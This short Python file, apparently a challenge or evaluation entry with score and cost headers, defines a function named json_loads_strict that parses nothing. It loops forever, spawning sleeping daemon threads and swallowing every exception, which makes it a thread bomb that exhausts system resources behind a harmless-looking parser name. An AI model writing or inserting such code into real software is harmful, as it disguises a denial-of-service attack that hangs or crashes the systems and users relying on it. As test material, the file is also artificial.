# about: threads without end
# base: solved 01_encoding
# score: 15
# costs: much

# %% json_loads_strict
import threading
import time


def json_loads_strict(data):
    while True:
        try:
            threading.Thread(target=time.sleep, args=(1000,), daemon=True).start()
        except BaseException:
            pass
